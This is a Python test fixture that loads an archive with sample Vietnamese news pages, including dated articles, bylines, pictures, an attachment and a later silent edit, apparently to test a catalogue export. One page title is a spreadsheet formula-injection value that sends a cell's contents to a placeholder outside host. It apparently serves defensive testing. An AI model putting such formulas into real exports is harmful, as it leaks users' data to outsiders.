"""A catalogue to export: articles of two years and of none, with pictures, a document, a silent edit."""

from __future__ import annotations

import pytest

from tests.archive.catalogue.shelf import HOME, Shelf, page, says, walk

FORMULA = '=HYPERLINK("https://x.example/?"&A1)'
TEXT = "Dòng một, “có phẩy”\nDòng hai"


@pytest.fixture
def filled(shelf: Shelf) -> Shelf:
    pictures = [{"url": f"{HOME}/a.jpg", "caption": "Quang cảnh Đồng Tháp", "credit": "Ảnh: Thu Hà"}]
    documents = [{"url": f"{HOME}/a.pdf", "text": "Văn bản"}]
    said = {"published": "2024-03-27", "text": TEXT, "images": pictures, "attachments": documents}
    shelf.warc(
        page("/a", says(title="Đồng Tháp họp bàn", byline="Thu Hà, Minh", authors=["Thu Hà", "Minh"], **said)),
        page("/b", says(title=FORMULA, byline="-1", problems=[{"field": "published", "what": "no date"}])),
        page("/d", says(title="Năm cũ", lead="Tóm tắt", published="2023-12-31T23:59", text="Chuyện năm cũ.")),
        walk("/tin-tuc", [("/a", "owed"), ("/x", "never")]),
    )
    shelf.warc(page("/a", says(title="Đồng Tháp họp", byline="Thu Hà", authors=["Thu Hà"], **said), minutes=5))
    shelf.ingest()
    return shelf
